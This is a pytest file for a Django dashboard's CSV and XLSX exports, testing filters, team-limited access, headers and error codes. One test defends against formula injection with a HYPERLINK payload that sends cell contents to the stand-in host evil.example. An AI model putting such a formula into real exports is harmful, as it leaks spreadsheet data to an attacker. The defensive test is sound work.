"""Each panel's data as CSV and XLSX: the page's filters, only readable teams, the
right content types and file names, and formulas neutralised in both."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client

from apps.accounts.models import Role, User
from apps.dashboards.downloads import table_xlsx
from apps.dashboards.panels import ORG_PANELS
from tests.accounts.factories import BusinessUnitFactory, TeamFactory
from tests.dashboards.conftest import BASIC

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def xlsx_rows(response) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_the_heatmap_csv_has_the_tables_labels_and_rows(two_teams, executive):
    response = signed_in(executive).get("/dashboards/data/heatmap.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="tollgate-heatmap.csv"'
    )
    rows = csv_rows(response)
    assert rows[0] == ["Team", "Business unit", "Dimension", "Level", "Score", "Target"]
    assert [row[:4] for row in rows[1:]] == [
        ["Credit", "Risk", "Data", "1"],
        ["Credit", "Risk", "Operations", "0"],
        ["Shop", "Retail", "Data", "2"],
        ["Shop", "Retail", "Operations", "0"],
    ]
    assert rows[1][5] == ""  # no target: an empty cell, not "nan"


def test_the_xlsx_has_the_same_table(two_teams, executive):
    response = signed_in(executive).get("/dashboards/data/heatmap.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="tollgate-heatmap.xlsx"'
    )
    rows = xlsx_rows(response)
    assert rows[0] == ["Team", "Business unit", "Dimension", "Level", "Score", "Target"]
    assert [row[:4] for row in rows[1:]] == [
        ["Credit", "Risk", "Data", 1],
        ["Credit", "Risk", "Operations", 0],
        ["Shop", "Retail", "Data", 2],
        ["Shop", "Retail", "Operations", 0],
    ]
    assert rows[1][5] is None


def test_downloads_take_the_pages_filters(two_teams, units, executive):
    client = signed_in(executive)
    query = {"business_unit": units[0].pk}

    csv_teams = {
        row[0]
        for row in csv_rows(client.get("/dashboards/data/heatmap.csv", query))[1:]
    }
    xlsx_teams = {
        row[0]
        for row in xlsx_rows(client.get("/dashboards/data/heatmap.xlsx", query))[1:]
    }

    assert csv_teams == xlsx_teams == {"Shop"}
    period = csv_rows(
        client.get("/dashboards/data/distribution.csv", {"period": "2026-Q2"})
    )
    assert [row[0] for row in period[1:]] == ["Shop"]


def test_a_member_downloads_only_their_team(two_teams, make_user):
    shop, _credit = two_teams
    member = make_user(Role.TEAM_MEMBER, team=shop)
    rows = csv_rows(signed_in(member).get("/dashboards/data/distribution.csv"))
    assert [row[0] for row in rows[1:]] == ["Shop"]


def test_formulas_in_names_are_neutralised(units, scored, executive):
    scored(TeamFactory(business_unit=units[0], name=FORMULA), "2026-Q3", BASIC)
    client = signed_in(executive)

    rows = csv_rows(client.get("/dashboards/data/distribution.csv"))
    assert rows[1][0] == "'" + FORMULA

    response = client.get("/dashboards/data/distribution.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cell = book.active["A2"]
    assert cell.value == "'" + FORMULA
    assert cell.data_type == "s"  # text, not a formula


def test_the_xlsx_writer_drops_control_characters_and_keeps_numbers():
    import pandas as pd

    table = pd.DataFrame({"Team": ["a\x00b", "-1 team"], "Level": [-1, 2.5]})
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx(table, sheet="A/B: [x]")))
    sheet = book.active
    assert sheet.title == "A B   x "
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [
        ["Team", "Level"],
        ["ab", -1],
        ["'-1 team", 2.5],
    ]


@pytest.mark.parametrize("panel", [panel.key for panel in ORG_PANELS])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_every_panel_downloads(two_teams, executive, panel, extension):
    response = signed_in(executive).get(f"/dashboards/data/{panel}.{extension}")

    assert response.status_code == 200
    assert f'filename="tollgate-{panel}.{extension}"' in response["Content-Disposition"]
    header = (csv_rows if extension == "csv" else xlsx_rows)(response)[0]
    columns = next(p for p in ORG_PANELS if p.key == panel).columns
    assert list(header) == list(columns.values())


def test_an_unknown_panel_is_a_404(executive):
    client = signed_in(executive)
    assert client.get("/dashboards/data/secrets.csv").status_code == 404
    assert client.get("/dashboards/data/heatmap.pdf").status_code == 404


def test_bad_filters_are_a_400_with_the_error(two_teams, executive):
    other_unit = BusinessUnitFactory()  # another organisation's
    response = signed_in(executive).get(
        "/dashboards/data/heatmap.csv", {"business_unit": other_unit.pk}
    )
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
